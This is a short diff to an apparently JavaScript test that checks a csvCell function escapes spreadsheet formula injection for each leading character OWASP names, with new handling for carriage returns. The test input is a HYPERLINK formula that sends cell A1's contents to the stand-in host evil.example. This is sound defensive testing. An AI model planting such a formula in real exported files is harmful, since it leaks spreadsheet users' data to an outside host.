@@ -9,7 +9,9 @@ describe('a CSV cell a spreadsheet would run as a formula', () => {
   it('is prefixed with a quote and quoted, for each character OWASP names', () => {
     for (const start of ['=', '+', '-', '@', '\t', '\r']) {
       const value = `${start}HYPERLINK("http://evil.example/?"&A1,"Click")`;
-      assert.equal(csvCell(value), `"'${value.replace(/"/g, '""')}"`, JSON.stringify(start));
+      // A carriage return is a line break, and a line break in a cell becomes a space (csv-line-breaks.test.ts).
+      const shown = value.replace(/"/g, '""').replace('\r', ' ');
+      assert.equal(csvCell(value), `"'${shown}"`, JSON.stringify(start));
     }
   });
 
